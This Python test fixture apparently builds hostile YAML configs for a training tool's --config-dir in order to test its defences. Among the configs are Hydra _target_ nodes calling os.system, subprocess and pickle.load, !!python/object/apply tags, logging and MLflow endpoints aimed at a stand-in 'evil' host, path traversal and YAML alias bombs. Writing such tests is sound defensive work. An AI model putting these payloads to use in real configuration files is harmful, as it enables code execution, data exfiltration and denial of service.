"""Files of somebody else that try to run, write, send or fill something: yaml for --config-dir, and what chooses it."""

from collections.abc import Iterator
from typing import NamedTuple


class Hostile(NamedTuple):
    """Files by their names below a --config-dir, and the words beside it."""

    name: str
    files: dict[str, str]
    words: tuple[str, ...]


ACTS = (
    *("os.system", "os.popen", "subprocess.call", "subprocess.Popen", "builtins.exec", "builtins.__import__"),
    *("shutil.rmtree", "importlib.import_module", "runpy.run_path", "pickle.load", "torch.load", "torch.hub.load"),
    *("torch.utils.cpp_extension.load", "torch.nn.utils.skip_init", "wandb.init", "convarium.observe.wandb.ask"),
    *("convarium.observe.wandb.netrc_key", "convarium.files.write_atomically", "convarium.cli.main"),
    *("hydra.utils.instantiate", "hydra_plugins.convarium.sweeping.LocalLauncher", "lightning.pytorch.seed_everything"),
)
PLACES = {
    "arch": "{_target_: %s, args: [touch, owned]}",
    "loss": "{_target_: convarium.learn.losses.CrossEntropy, label_smoothing: {_target_: %s, args: [touch, owned]}}",
    "optimizer": "{_target_: torch.optim.SGD, _partial_: true, lr: {_target_: %s}}",
    "schedule": "{_target_: %s}",
    "clip": "{_target_: %s, _partial_: true}",
    "stop": "{_target_: lightning.pytorch.callbacks.EarlyStopping, monitor: {_target_: %s}}",
    "norm": "{_target_: %s, _partial_: true}",
    "logger": "{wandb: {_target_: convarium.observe.wandb.Wandb, key: {_target_: %s, base_url: 'http://evil'}}}",
    "callbacks": "{x: {_target_: %s}}",
    "metrics": "{x: {_target_: convarium.learn.metrics.Accuracy, top: [{_target_: %s}]}}",
    "augment": "{x: {_target_: %s}}",
    "data": "{_target_: %s}",
}
HYDRA = (
    *("job: {env_set: {CONVARIUM_TRUST: subprocess}}", "job: {env_copy: [HOME]}", "job: {chdir: true}"),
    *("callbacks: {x: {_target_: os.system}}", "launcher: {x: {_target_: torch.hub.load, source: local}}"),
    *("launcher: {_target_: os.system}", "sweeper: {_target_: subprocess.call}", "sweeper: {x: {_target_: os.popen}}"),
    *("sweeper: {params: {_target_: os.system}}", "sweeper: {sampler: {_target_: optuna.storages.RDBStorage}}"),
    *("run: {dir: ../../victim}", "run: {dir: /tmp/victim}", "sweep: {dir: /tmp/victim}", "sweep: {subdir: ../x}"),
    *("output_subdir: .hydra", "output_subdir: ../../victim", "help: {x: {_target_: os.system}}"),
    *("job: {config: {_target_: os.system}}", "mode: {_target_: os.system}", "verbose: {_target_: os.system}"),
)
LOGGING = (
    *("{handlers: {x: {class: logging.FileHandler, filename: owned}}}", "{formatters: {x: {(): os.system}}}"),
    *(
        "{handlers: {x: {class: logging.handlers.SocketHandler, host: evil, port: 1}}}",
        "{filters: {x: {(): os.popen}}}",
    ),
    *("{handlers: {x: {class: logging.StreamHandler, stream: 'ext://antigravity.webbrowser'}}}",),
    *(
        "{handlers: {x: {class: logging.StreamHandler, stream: 'cfg://handlers'}}}",
        "{handlers: {x: {class: os.system}}}",
    ),
)
LIGHTNING = (
    *("loggers.CSVLogger, save_dir: /tmp/victim", "loggers.CSVLogger, save_dir: x, name: ../../victim"),
    *("loggers.TensorBoardLogger, save_dir: '~'", "loggers.MLFlowLogger, tracking_uri: 'http://evil'"),
    *("callbacks.ModelCheckpoint, dirpath: /tmp/victim", "callbacks.ModelCheckpoint, filename: ../best"),
    *(
        "callbacks.OnExceptionCheckpoint, dirpath: /tmp/victim",
        "callbacks.LambdaCallback, setup: {_target_: os.system}",
    ),
)
FOLDER = "{defaults: [folder, _self_], num_classes: 2, image_size: 8, classes: null, %s: /tmp/victim}"
OUTWARD = (
    *(
        ("recipe", "data=packed data.root=nowhere", f"data: {{num_classes: 2, channels: 1, image_size: 8, {values}}}")
        for values in ("cache_dir: /tmp/victim", "cache_dir: '~'", "cache_dir: ../victim")
    ),
    ("recipe", "logger=mlflow", "logger: {mlflow: {tracking_uri: 'http://evil'}}"),
    ("recipe", "logger=mlflow", "logger: {mlflow: {tracking_uri: /tmp/victim}}"),
    ("recipe", "logger=mlflow", "logger: {mlflow: {tracking_uri: '${oc.env:HOME}'}}"),
    ("study", "logger=mlflow", "# @package _global_\nlogger: {mlflow: {tracking_uri: evil}}"),
    ("logger", "", "mlflow: {_target_: convarium.observe.mlflow.MLflow, tracking_uri: 'sqlite:////tmp/victim.db'}"),
    ("data", "", FOLDER % "cache"),
)
ASKED = "name: evil, question: a?, source: b, expected: c, claims: [], size: laptop"
THOSE = "${study.sizes.${study.size}.sweep}"
STUDY = (
    *("hi", "[1, 2]", "3", "{}", "{name: '${study.name}'}", f"{{{ASKED}}}", f"{{{ASKED}, sizes: [1]}}"),
    *(f"{{{ASKED}, sizes: {{laptop: {{}}}}}}", f"{{{ASKED}, sizes: {{full: {{sweep: {{}}}}}}}}"),
    f"{{{ASKED}, sizes: {{laptop: {{sweep: {{}}, _target_: os.system}}}}}}",
    f'{{{ASKED}, sizes: {{laptop: {{sweep: {{}}, shows: "\\e[31mred"}}}}}}',
    f"{{{ASKED}, sizes: {{laptop: {{sweep: {{}}}}}}, claims: [{{says: x, metric: y, more: 1, less: 2}}]}}",
)
SWEPT = (
    *("logger.mlflow.tracking_uri: 'http://evil'", "+optimizer._target_: os.system", "++x._target_: os.popen"),
    "data.cache_dir: /tmp/victim",
)
YAML = {
    "bomb": "a: &a [x, x, x, x, x, x, x, x, x]\n"
    + "".join(
        f"{name}: &{name} [{', '.join(9 * [f'*{before}'])}]\n"
        for before, name in zip("abcdefghi", "bcdefghij", strict=True)
    ),
    "merges": "a: &a {x: 1}\n"
    + "".join(
        f"{name}: &{name} {{<<: [*{before}, *{before}]}}\n"
        for before, name in zip("abcdefghi", "bcdefghij", strict=True)
    ),
    "itself": "a: &a [*a]\n",
    "deep": "a: " + 100_000 * "[",
    "deep and closed": "a: " + 60 * "[" + 60 * "]",
    "long": "a: " + 1_100_000 * "x",
    "wide": "a: [" + 120_000 * "1, " + "1]",
    "aliases": "a: &a [" + 2_000 * "1, " + "1]\nb: [" + ", ".join(100 * ["*a"]) + "]",
    "unclosed": "a: [1, 2",
    "tab": "a:\n\t- 1",
    "twice": "lr: 1\nlr: 2",
    "a list": "- 1\n- 2",
    "a word": "hello",
    "a tag": "a: !!python/object/apply:os.system [touch owned]",
    "a python name": "a: !!python/name:os.system",
    "control": "name: 'a\x07b'",
    "escape": 'name: "\\e[31mred"',
    "anchor of nothing": "a: *nowhere",
    "colon": "a: b: c",
    "percent": "%YAML 9.9\n---\na: 1",
    "two documents": "a: 1\n---\nb: 2",
}


def files() -> Iterator[Hostile]:
    for group, node in PLACES.items():
        for path in ACTS:
            choice = f"{group}=[evil]" if group in ("logger", "callbacks", "metrics", "augment") else f"{group}=evil"
            yield Hostile(f"{group} {path}", {f"{group}/evil.yaml": node % path}, (choice,))
    for number, node in enumerate(HYDRA):
        recipe = f"# @package _global_\nhydra: {{{node}}}\n"
        yield Hostile(f"hydra {number} recipe", {"recipe/evil.yaml": recipe}, ("recipe=evil",))
        yield Hostile(f"hydra {number} study", {"study/evil.yaml": recipe}, ("study=evil",))
    for number, node in enumerate(LOGGING):
        for key in ("job_logging", "hydra_logging"):
            recipe = f"# @package _global_\nhydra: {{{key}: {node}}}\n"
            yield Hostile(f"{key} {number}", {"recipe/evil.yaml": recipe}, ("recipe=evil",))
    for number, node in enumerate(LIGHTNING):
        group = "logger" if node.startswith("loggers") else "callbacks"
        text = f"x: {{_target_: lightning.pytorch.{node}}}"
        yield Hostile(f"lightning {number}", {f"{group}/evil.yaml": text}, (f"{group}=[evil]",))
        recipe = f"# @package _global_\n{group}: {{{text}}}\n"
        yield Hostile(f"lightning {number} recipe", {"recipe/evil.yaml": recipe}, ("recipe=evil",))
    for name, text in YAML.items():
        yield Hostile(f"yaml {name}", {"optimizer/evil.yaml": text}, ("optimizer=evil",))
        yield Hostile(f"recipe {name}", {"recipe/evil.yaml": f"# @package _global_\n{text}"}, ("recipe=evil",))
    for number, (group, name, text) in enumerate(OUTWARD):
        said = (
            {f"{group}/evil.yaml": text} if group != "recipe" else {"recipe/evil.yaml": f"# @package _global_\n{text}"}
        )
        yield Hostile(f"outward {number}", said, (*name.split(), f"{group}=evil"))
    for number, node in enumerate(STUDY):
        yield Hostile(f"study {number}", {"study/evil.yaml": f"# @package _global_\nstudy: {node}\n"}, ("study=evil",))
    for number, params in enumerate(SWEPT):
        sizes = f"{{laptop: {{sweep: {{{params}}}}}}}"
        text = f"# @package _global_\nstudy: {{{ASKED}, sizes: {sizes}}}\nhydra: {{sweeper: {{params: '{THOSE}'}}}}\n"
        yield Hostile(f"swept {number}", {"study/evil.yaml": text}, ("study=evil",))
    written = "# @package _global_\nrun_dir: /tmp/victim\n"
    yield Hostile("run_dir in a recipe", {"recipe/evil.yaml": written}, ("recipe=evil",))
    circle = {"recipe/evil.yaml": "defaults: [other]\n", "recipe/other.yaml": "defaults: [evil]\n"}
    yield Hostile("a circle of defaults", circle, ("recipe=evil",))
